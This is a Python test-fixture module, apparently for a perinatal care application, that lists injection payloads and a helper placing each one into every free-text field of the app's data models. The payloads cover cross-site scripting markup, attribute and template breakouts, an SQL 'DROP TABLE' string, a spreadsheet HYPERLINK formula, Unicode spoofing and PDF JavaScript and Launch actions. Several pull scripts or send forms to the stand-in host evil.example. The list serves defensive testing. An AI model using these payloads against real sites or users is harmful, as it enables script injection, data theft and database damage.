"""Words that were written to be more than words: each of them has to be shown, printed and kept as its own letters."""

from collections.abc import Iterator
from datetime import date
from enum import StrEnum
from typing import Any, get_args, get_origin

from pydantic import BaseModel, StringConstraints
from pydantic.fields import FieldInfo

from perinatal.care.kind import Words
from perinatal.care.said import Said

ELSEWHERE = "https://evil.example"
RUN = "window.ran=1"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><svg onload={RUN}>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f'<img src="x" onerror="{RUN}"/>',
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<base href={ELSEWHERE}/>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css'; body {{ display: none }}</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><input name=words><button>Save</button></form>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<a href='javascript:{RUN}'>tap</a>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
"""Markup that would do something if it were markup."""
BREAKERS = (
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"`-{RUN}-`",
    f'"><img src=x onerror={RUN}>',
    f"'-{RUN}-'",
    f'\\";{RUN}//',
    f"*/{RUN}/*",
    "--><h1>Forget everything</h1><!--",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "${" + RUN + "}",
    "{{" + RUN + "}}",
    "{%" + RUN + "%}",
    "#{7*7} <%= 7*7 %> {0} {name} %s %n $1",
    "__proto__ constructor.prototype toString",
    "'; DROP TABLE plan; --",
    "null undefined NaN true [object Object]",
    '=HYPERLINK("https://evil.example","tap")',
)
"""What breaks out of an attribute, a script, a template, a question to a file."""
LOOKS = (
    "# Not a heading **not bold** [not a link](https://evil.example)",
    "![not a picture](https://evil.example/pixel.png)",
    "```\nnot code\n```",
    "- [x] not a list <https://evil.example>",
    f"[tap](javascript:{RUN})",
    "\u202eesrever si siht\u202c",
    "\u2066isolated\u2069 \u200f\u200e",
    "a\u0301\u0327\u0323\u0302\u0303" * 8,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\u200d\u2620\ufe0f \u2764\ufe0f",
    "zero\u200bwidth\ufeffjoiner\u00ad",
    "\u0430\u0440\u0440\u04cf\u0435.example",
    "W" * 600,
    "Donaudampfschifffahrtselektrizit\u00e4tenhauptbetriebswerkbauunterbeamtengesellschaft" * 3,
    "\u0645\u0646 \u0641\u0636\u0644\u0643 <b>\u0627\u0633\u0623\u0644\u0646\u064a</b>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
"""What pretends to be laid out, or turns, joins and stretches the letters around it."""
OF_PAPER = (
    f"(hello) Tj ET BT /F1 12 Tf ({RUN}) Tj",
    f"endstream endobj 1 0 obj << /OpenAction << /S /JavaScript /JS ({RUN}) >> >>",
    "<< /S /URI /URI (https://evil.example) >>",
    "<< /S /Launch /F (calc.exe) >> \\) ( \\( \\\\ \\053 \\n",
    "%PDF-1.7 %%EOF trailer << /Root 1 0 R >>",
    "Q q 0 0 0 rg 1000 0 0 1000 0 0 cm /Im0 Do",
)
"""What would be an order to a printer, if it were one."""
BY_HAND = (*MARKUP, *BREAKERS, *LOOKS, *OF_PAPER)
"""All that a person can type or paste into a box."""
NOT_BY_HAND = (
    "a\x00b null",
    "bell\x07 escape\x1b[2J",
    "one\r\ntwo\rthree\u2028four\u2029five",
    "\ue000 private \U000e0001",
)
"""What no browser sends as it is, but a program may."""
PAYLOADS = (*BY_HAND, *NOT_BY_HAND)

IDS = {
    "question": "A1",
    "topic": "",
    "item": "A1",
    "part": "A",
    "goal": "1",
    "member": "ab" * 16,
    "public": "cd" * 64,
    "place": "",
    "sheet": "booklet",
    "turn": "none",
}
"""Ids for what is said; those left empty are given by whoever asks."""


def in_every_kind(words: str, **ids: str) -> Iterator[BaseModel]:
    """Everything that can be said with words in it, with these words in every place for words."""
    for kind in get_args(get_args(Said)[0]):
        given = {name: _given(name, field, words, IDS | ids) for name, field in kind.model_fields.items()}
        if words in given.values():
            yield kind(**{name: value for name, value in given.items() if value is not None})


def _given(name: str, field: FieldInfo, words: str, ids: dict[str, str]) -> Any:
    """A value for one field: the words where words go, else what is there to choose."""
    asked = field.annotation
    if _is_words(field):
        return words
    if isinstance(asked, type) and issubclass(asked, StrEnum):
        return next(each for each in asked if each != "me")  # nothing is said for nobody
    if get_origin(asked) is frozenset:
        (inside,) = get_args(asked)
        return frozenset(inside if isinstance(inside, type) else [ids["part"]])
    if asked is date or date in get_args(asked):
        return date(2030, 1, 1)
    if not field.is_required():
        return None
    return 1 if asked in (int, float) else False if asked is bool else ids.get(name) or "A1"


def _is_words(field: FieldInfo) -> bool:
    """Whether a person's own words go there."""
    longest = next(each.max_length for each in get_args(Words) if isinstance(each, StringConstraints))
    return field.annotation is str and any(getattr(each, "max_length", None) == longest for each in field.metadata)
